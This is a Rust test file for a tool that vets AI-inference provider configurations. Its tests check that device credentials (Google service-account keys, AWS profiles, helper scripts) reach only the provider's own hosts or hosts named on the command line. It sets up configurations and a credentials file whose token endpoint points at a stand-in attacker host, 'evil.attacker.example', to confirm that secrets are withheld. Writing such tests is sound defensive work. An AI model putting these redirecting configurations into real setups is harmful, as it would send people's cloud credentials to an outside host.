//! Credentials of the device, named by a configuration that somebody sent: they go to the provider's
//! own hosts and to those of the command line, and nowhere else.

use serde_json::json;

use crate::inference::service::{Does, Service, base64};
use crate::inference::*;
use crate::servers::Authority;

const EVIL: &str = "evil.attacker.example";
const TOKENS: &str = "oauth2.googleapis.com";

/// A kind of credential of the device.
struct Kind {
    name: &'static str,
    /// The configuration, without the address.
    configuration: Value,
    /// The key of the address, and the path of it.
    address: (&'static str, &'static str),
    /// A host of the provider; none has it.
    own: Option<&'static str>,
    does: Does,
    /// The credential is exchanged for a token first.
    exchanged: bool,
}

/// What stands on the device, and where its helper leaves its mark.
struct Device {
    helper: String,
    mark: std::path::PathBuf,
    google: String,
}

/// Puts a Google file, AWS files and a helper on the device.
fn device(scene: &Scene, tokens: SocketAddr) -> Device {
    let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_RSA_SHA256).unwrap();
    let pem =
        format!("-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----\n", base64(&key.serialize_der()));
    let file = json!({
        "type": "service_account", "client_email": "a@mill.example", "private_key": pem,
        "token_uri": format!("https://{TOKENS}:{}/token", tokens.port()),
    });
    let home = scene.dir.path();
    for folder in [".config/gcloud", ".aws"] {
        std::fs::create_dir_all(home.join(folder)).unwrap();
    }
    scene.put(".config/gcloud/application_default_credentials.json", &file.to_string());
    let google = scene.put("google.json", &file.to_string());
    let mark = home.join("ran");
    let helper = scene.put("helper.sh", &format!("#!/bin/sh\ntouch {}\necho {KEY}\n", mark.display()));
    let process = scene.put(
        "process.sh",
        &format!(
            "#!/bin/sh\ntouch {}\necho '{{\"Version\":1,\"AccessKeyId\":\"AKpLaNt3dID\",\"SecretAccessKey\":\"pLaNt3d-s\",\"SessionToken\":\"pLaNt3d-session\"}}'\n",
            mark.display()
        ),
    );
    for script in [&helper, &process] {
        std::process::Command::new("chmod").args(["+x", script]).status().unwrap();
    }
    let keys = "aws_access_key_id = AKpLaNt3dID\naws_secret_access_key = pLaNt3d-secret\naws_session_token = pLaNt3d-session\n";
    scene.put(".aws/credentials", &format!("[default]\n{keys}[mill]\n{keys}"));
    scene.put(".aws/config", &format!("[profile process]\ncredential_process = {process}\n"));
    Device { helper, mark, google }
}

fn kinds(device: &Device, home: &std::path::Path) -> Vec<Kind> {
    let bedrock = |more: Value| {
        let mut all = json!({ "inferenceProvider": "bedrock", "inferenceBedrockRegion": "us-east-1", "inferenceModels": ["m"] });
        all.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        all
    };
    let vertex = |more: Value| {
        let mut all = json!({ "inferenceProvider": "vertex", "inferenceVertexRegion": "us-east5", "inferenceVertexProjectId": "p",
            "inferenceModels": ["m"] });
        all.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        all
    };
    let runtime = Some("bedrock-runtime.us-east-1.amazonaws.com");
    let platform = Some("us-east5-aiplatform.googleapis.com");
    let kind = |name, configuration, address, own, does, exchanged| Kind {
        name,
        configuration,
        address,
        own,
        does,
        exchanged,
    };
    let (sse, aws) = (Does::Stream(6, 20), Does::Aws(6));
    let helper = |provider: &str| {
        json!({ "inferenceProvider": provider, "inferenceBedrockRegion": "us-east-1", "inferenceFoundryResource": "mill",
            "inferenceVertexRegion": "us-east5", "inferenceVertexProjectId": "p", "inferenceModels": ["m"],
            "inferenceCredentialKind": "helper-script", "inferenceCredentialHelper": device.helper })
    };
    vec![
        kind(
            "application default credentials",
            vertex(json!({ "inferenceCredentialKind": "vendor-profile" })),
            ("inferenceVertexBaseUrl", "/v1"),
            platform,
            sse.clone(),
            true,
        ),
        kind(
            "a Google file",
            vertex(json!({ "inferenceVertexCredentialsFile": device.google })),
            ("inferenceVertexBaseUrl", "/v1"),
            platform,
            sse.clone(),
            true,
        ),
        kind(
            "an AWS profile",
            bedrock(json!({ "inferenceBedrockProfile": "mill" })),
            ("inferenceBedrockBaseUrl", ""),
            runtime,
            aws.clone(),
            false,
        ),
        kind(
            "an AWS folder",
            bedrock(json!({ "inferenceBedrockAwsDir": home.join(".aws") })),
            ("inferenceBedrockBaseUrl", ""),
            runtime,
            aws.clone(),
            false,
        ),
        kind(
            "a credential_process",
            bedrock(json!({ "inferenceBedrockProfile": "process" })),
            ("inferenceBedrockBaseUrl", ""),
            runtime,
            aws.clone(),
            false,
        ),
        kind(
            "a helper of a gateway",
            helper("gateway"),
            ("inferenceGatewayBaseUrl", ""),
            None,
            sse.clone(),
            false,
        ),
        kind("a helper of Bedrock", helper("bedrock"), ("inferenceBedrockBaseUrl", ""), runtime, aws, false),
        kind(
            "a helper of Mantle",
            helper("mantle"),
            ("inferenceBedrockBaseUrl", "/anthropic"),
            Some("bedrock-mantle.us-east-1.api.aws"),
            sse.clone(),
            false,
        ),
        kind(
            "a helper of Vertex",
            helper("vertex"),
            ("inferenceVertexBaseUrl", "/v1"),
            platform,
            sse.clone(),
            false,
        ),
        kind(
            "a helper of Foundry",
            helper("foundry"),
            ("inferenceFoundryBaseUrl", "/anthropic"),
            Some("mill.services.ai.azure.com"),
            sse,
            false,
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn they_go_to_the_providers_own_hosts_and_to_those_that_are_named() {
    let public = Authority::new("Public");
    let tokens = Service::new(Does::Stream(1, 1));
    let token_at = tokens.tls(public.leaf(TOKENS, |_| ()).acceptor(&["http/1.1"])).await;
    let scene = Scene::new(&json!({})).await;
    let device = device(&scene, token_at);
    let roots = scene.pem("public.pem", &public);
    let token_host = format!("{TOKENS}:{}", token_at.port());
    let base = [
        &INFERENCE[..],
        &["--with-credentials", "--run-helpers", "--public-roots", &roots, "--device-ca", &roots],
        &["--host", &token_host, "--no-controls"],
    ]
    .concat();
    for kind in kinds(&device, scene.dir.path()) {
        let name = kind.name;
        let about = |host: &str| format!("{name} at {host}");
        let trial = |host: &'static str, named: Option<&'static str>| {
            let (kind, public, scene, base) = (&kind, &public, &scene, &base);
            async move {
                let service = Service::new(kind.does.clone());
                let at = service.tls(public.leaf(host, |_| ()).acceptor(&["http/1.1"])).await;
                let mut configuration = kind.configuration.clone();
                configuration[kind.address.0] = json!(format!("{}{}", url(host, at), kind.address.1));
                scene.put("c.json", &configuration.to_string());
                let named: Vec<&str> = named.iter().flat_map(|n| ["--credential-host", n]).collect();
                let args = [&base[..], &named].concat();
                let run = scene.check(&args).await;
                let dry = scene.check(&[&args[..], &["--dry-run"]].concat()).await.json();
                (service, run, dry["calls"][0].as_str().unwrap_or_default().to_owned())
            }
        };

        // Whoever wrote the configuration names the host.
        let before = tokens.heard().len();
        let (service, run, dry) = trial(EVIL, None).await;
        assert!(!service.saw_a_secret(), "{}: {:?}", about(EVIL), service.heard());
        let exchanges = tokens.heard().iter().skip(before).filter(|r| r.contains("assertion=")).count();
        assert_eq!(exchanges, 0, "{name}: no token is asked for what may not be sent");
        assert!(!device.mark.exists(), "{name}: no program runs for what may not be sent");
        let report = run.json();
        let call = stream(&report);
        assert_eq!(call["outcome"]["outcome"], "not-sent", "{name}: {}", run.out);
        let reason = call["outcome"]["reason"].as_str().unwrap();
        assert!(reason.contains(EVIL) && reason.contains("--credential-host"), "{name}: {reason}");
        assert!(run.out.contains("this device's account"), "{name}: {}", run.out);
        assert_eq!(run.code, Some(3), "{name}: {}", run.out);
        assert!(
            dry.contains("token of this device's account")
                && dry.contains(&format!("would not go to {EVIL}")),
            "{dry}"
        );

        // The command line names it.
        let (service, run, dry) = trial(EVIL, Some(EVIL)).await;
        assert!(service.saw_a_secret(), "{}: {}{}", about(EVIL), run.out, run.err);
        assert_eq!(stream(&run.json())["stream"]["end"], "complete", "{name}: {}", run.out);
        assert!(dry.contains(&format!("would go to {EVIL}")), "{dry}");
        // Another host of the same command line does not help.
        std::fs::remove_file(&device.mark).ok();
        let (service, ..) = trial(EVIL, Some("attacker.example")).await;
        assert!(!service.saw_a_secret() && !device.mark.exists(), "{name}: another host was named");

        // The provider's own.
        if let Some(own) = kind.own {
            let before = tokens.heard().len();
            let (service, run, dry) = trial(own, None).await;
            assert!(service.saw_a_secret(), "{}: {}{}", about(own), run.out, run.err);
            let exchanged = tokens.heard().iter().skip(before).any(|r| r.contains("assertion="));
            assert_eq!(exchanged, kind.exchanged, "{name}");
            assert!(dry.contains(&format!("would go to {own}")), "{dry}");
        }
        std::fs::remove_file(&device.mark).ok();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_credentials_file_does_not_choose_who_exchanges_it() {
    // The token endpoint of the file is on the list, as a connector of the same configuration.
    let public = Authority::new("Public");
    let (tokens, service) = (Service::new(Does::Stream(1, 1)), Service::new(Does::Stream(6, 20)));
    let token_at = tokens.tls(public.leaf(EVIL, |_| ()).acceptor(&["http/1.1"])).await;
    let own = "us-east5-aiplatform.googleapis.com";
    let at = service.tls(public.leaf(own, |_| ()).acceptor(&["http/1.1"])).await;
    let scene = Scene::new(&json!({})).await;
    let device = device(&scene, token_at);
    let mut file: Value = serde_json::from_str(&std::fs::read_to_string(&device.google).unwrap()).unwrap();
    let endpoint = url(EVIL, token_at);
    file["token_uri"] = json!(format!("{endpoint}/token"));
    let file = scene.put("sent.json", &file.to_string());
    let configuration = json!({
        "inferenceProvider": "vertex", "inferenceVertexRegion": "us-east5", "inferenceVertexProjectId": "p",
        "inferenceModels": ["m"], "inferenceVertexBaseUrl": format!("{}/v1", url(own, at)),
        "inferenceVertexCredentialsFile": file,
        "managedMcpServers": [{ "name": "x", "transport": "http", "url": format!("{endpoint}/mcp") }],
    });
    scene.put("c.json", &configuration.to_string());
    let roots = scene.pem("public.pem", &public);
    let base = [
        "--format",
        "json",
        "--with-credentials",
        "--public-roots",
        &roots,
        "--device-ca",
        &roots,
        "--no-controls",
    ];
    let base = [&base[..], &["--feature", "inference", "--feature", "connectors"]].concat();
    let run = scene.check(&base).await;
    assert!(tokens.heard().iter().all(|r| !r.contains("assertion=")), "{:?}", tokens.heard());
    assert!(!service.saw_a_secret());
    let reason = stream(&run.json())["outcome"]["reason"].as_str().unwrap().to_owned();
    assert!(reason.contains(EVIL) && reason.contains("--credential-host"), "{reason}");
    let run = scene.check(&[&base[..], &["--credential-host", "Evil.Attacker.Example."]].concat()).await;
    assert!(tokens.heard().iter().any(|r| r.contains("assertion=")), "{}", run.out);
    assert!(service.saw_a_secret(), "{}", run.out);
}

/// A service at a provider's own host, which credentials of the device may go to; and the arguments for it.
async fn of_the_provider(scene: &Scene, public: &Authority, own: &str) -> (Service, String, Vec<String>) {
    let service = Service::new(Does::Stream(6, 20));
    let at = service.tls(public.leaf(own, |_| ()).acceptor(&["http/1.1"])).await;
    let roots = scene.pem("public.pem", public);
    let args = [&INFERENCE[..], &["--with-credentials", "--run-helpers", "--no-controls"]].concat();
    let args = [&args[..], &["--public-roots", &roots, "--device-ca", &roots]].concat();
    (service, url(own, at), args.iter().map(|a| (*a).to_owned()).collect())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_never_ends_or_never_opens_holds_no_run_up() {
    let (public, scene) = (Authority::new("Public"), Scene::new(&json!({})).await);
    let (vertex, bedrock) = ("us-east5-aiplatform.googleapis.com", "bedrock-runtime.us-east-1.amazonaws.com");
    let (_vertex, platform, args) = of_the_provider(&scene, &public, vertex).await;
    let (_bedrock, runtime, _) = of_the_provider(&scene, &public, bedrock).await;
    let pipe = scene.dir.path().join("pipe").display().to_string();
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let aws = scene.dir.path().join("aws");
    std::fs::create_dir(&aws).unwrap();
    for name in ["config", "credentials"] {
        assert!(std::process::Command::new("mkfifo").arg(aws.join(name)).status().unwrap().success());
    }
    let google = |file: &str| {
        json!({ "inferenceProvider": "vertex", "inferenceVertexRegion": "us-east5", "inferenceVertexProjectId": "p",
            "inferenceModels": ["m"], "inferenceVertexBaseUrl": format!("{platform}/v1"),
            "inferenceCredentialKind": "vendor-profile", "inferenceVertexCredentialsFile": file })
    };
    let folder = json!({ "inferenceProvider": "bedrock", "inferenceBedrockRegion": "us-east-1", "inferenceModels": ["m"],
        "inferenceBedrockBaseUrl": runtime, "inferenceBedrockProfile": "mill", "inferenceBedrockAwsDir": aws });
    for (what, configuration) in
        [("/dev/zero", google("/dev/zero")), ("a pipe", google(&pipe)), ("pipes of AWS", folder)]
    {
        scene.put("c.json", &configuration.to_string());
        let args: Vec<&str> = args.iter().map(String::as_str).chain(["--deadline", "6s"]).collect();
        let child = scene
            .command(crate::common::clearway_limited("-v 4000000"), &args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let id = child.id().unwrap().to_string();
        let mut ending = tokio::spawn(child.wait_with_output());
        // Long after the deadline; and where that did not end it, Ctrl-C does.
        let seconds = std::time::Duration::from_secs;
        let Ok(output) = tokio::time::timeout(seconds(40), &mut ending).await else {
            let signal = |name: &str| std::process::Command::new("kill").args([name, &id]).status().unwrap();
            signal("-INT");
            let heard = tokio::time::timeout(seconds(5), ending).await.is_ok();
            if !heard {
                signal("-KILL");
            }
            panic!("{what}: it runs on after its deadline; Ctrl-C ends it: {heard}");
        };
        let run = of(output.unwrap().unwrap());
        assert_eq!(run.code, Some(3), "{what}: {}{}", run.out, run.err);
        let report = run.json();
        let outcome = &stream(&report)["outcome"];
        assert_eq!(outcome["outcome"], "not-sent", "{what}: {outcome}");
        assert!(!outcome["reason"].as_str().unwrap().is_empty(), "{what}: {outcome}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_helper_that_the_app_would_not_start_is_not_started() {
    let (public, scene) = (Authority::new("Public"), Scene::new(&json!({})).await);
    let own = "mill.services.ai.azure.com";
    let (service, address, args) = of_the_provider(&scene, &public, own).await;
    let mark = scene.dir.path().join("ran");
    let script = scene.put("hb.sh", &format!("#!/bin/sh\ntouch {}\necho {KEY}\n", mark.display()));
    std::process::Command::new("chmod").args(["+x", &script]).status().unwrap();
    // It lies in the working folder, and in a folder of PATH.
    let path = format!("{}:{}", scene.dir.path().display(), std::env::var("PATH").unwrap());
    for (helper, starts) in [("./hb.sh", false), ("hb.sh", false), (script.as_str(), true)] {
        let configuration = json!({ "inferenceProvider": "foundry", "inferenceFoundryResource": "mill", "inferenceModels": ["m"],
            "inferenceFoundryBaseUrl": format!("{address}/anthropic"), "inferenceCredentialKind": "helper-script",
            "inferenceCredentialHelper": helper });
        scene.put("c.json", &configuration.to_string());
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let mut command = scene.command(crate::common::clearway(), &args);
        let run = of(command.current_dir(scene.dir.path()).env("PATH", &path).output().await.unwrap());
        assert_eq!((mark.exists(), service.saw_a_secret()), (starts, starts), "{helper}: {}", run.out);
        if !starts {
            let report = run.json();
            let reason = stream(&report)["outcome"]["reason"].as_str().unwrap().to_owned();
            assert!(reason.contains("absolute path"), "{helper}: {reason}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_helper_that_is_given_up_leaves_nothing_running() {
    let (public, scene) = (Authority::new("Public"), Scene::new(&json!({})).await);
    let (_service, address, args) = of_the_provider(&scene, &public, "mill.services.ai.azure.com").await;
    let mark = scene.dir.path().join("mark");
    let script = format!("#!/bin/sh\n(sleep 6; touch {}) &\nsleep 60\n", mark.display());
    let script = scene.put("slow.sh", &script);
    std::process::Command::new("chmod").args(["+x", &script]).status().unwrap();
    let configuration = json!({ "inferenceProvider": "foundry", "inferenceFoundryResource": "mill", "inferenceModels": ["m"],
        "inferenceFoundryBaseUrl": format!("{address}/anthropic"), "inferenceCredentialKind": "helper-script",
        "inferenceCredentialHelper": script, "inferenceCredentialHelperTimeoutSec": 1 });
    scene.put("c.json", &configuration.to_string());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = scene.check(&args).await;
    let report = run.json();
    let reason = stream(&report)["outcome"]["reason"].as_str().unwrap().to_owned();
    assert!(reason.contains("did not end within 1 s"), "{reason}");
    tokio::time::sleep(std::time::Duration::from_secs(7)).await;
    assert!(!mark.exists(), "what the helper started runs on");
}
